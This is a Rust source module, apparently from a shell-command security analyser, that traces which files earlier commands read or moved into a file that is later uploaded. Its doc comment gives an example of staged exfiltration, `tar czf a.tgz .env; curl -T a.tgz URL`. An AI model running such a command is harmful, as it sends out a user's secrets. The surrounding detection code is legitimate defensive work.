//! Files whose content earlier commands of the text put into a file that is then sent: `tar czf a.tgz .env; curl -T
//! a.tgz URL`.

use super::connections;
use crate::access::{FileAccess, Verb};
use crate::analysis::{Analysis, SimpleCommand};
use crate::files::file_accesses;
use crate::files::paths::rebase_path;

/// The maximum number of earlier commands that are considered.
const MAX_COMMANDS: usize = 64;

/// The maximum number of files that are followed to the commands that wrote them.
const MAX_FILES: usize = 16;

/// Returns the files that earlier commands read, or move, to write one of the files in `sent`, also in several steps.
/// What a client of the network receives is not among them.
pub(super) fn staged_files(analysis: &Analysis, command: &SimpleCommand, sent: &[FileAccess]) -> Vec<FileAccess> {
    let mut names: Vec<String> = sent.iter().filter_map(name).take(MAX_FILES).collect();
    if names.is_empty() {
        return Vec::new();
    }
    let mut earlier: Vec<&SimpleCommand> =
        analysis.commands.iter().take_while(|other| !std::ptr::eq(*other, command)).collect();
    let skipped = earlier.len().saturating_sub(MAX_COMMANDS);
    earlier.drain(..skipped);
    let mut found = Vec::new();
    // A later command may use what an earlier one wrote.
    for writer in earlier.into_iter().rev() {
        let accesses: Vec<FileAccess> = file_accesses(analysis, writer)
            .into_iter()
            .map(|access| FileAccess { path: rebase_path(&access.path, &writer.cwd, &command.cwd), ..access })
            .collect();
        let is_target =
            |access: &FileAccess| access.verb == Verb::Writes && name(access).is_some_and(|name| names.contains(&name));
        if !accesses.iter().any(is_target) || !connections(writer).is_empty() {
            continue;
        }
        let sources = accesses.into_iter().filter(|access| matches!(access.verb, Verb::Reads | Verb::Deletes));
        for source in sources {
            match name(&source) {
                Some(name) if names.contains(&name) => continue,
                Some(name) if names.len() < MAX_FILES => names.push(name),
                _ => {}
            }
            found.push(source);
        }
    }
    found
}

/// Returns the known path of an access, without a leading `./`.
fn name(access: &FileAccess) -> Option<String> {
    access.path.known_text().map(|path| path.trim_start_matches("./").to_owned())
}
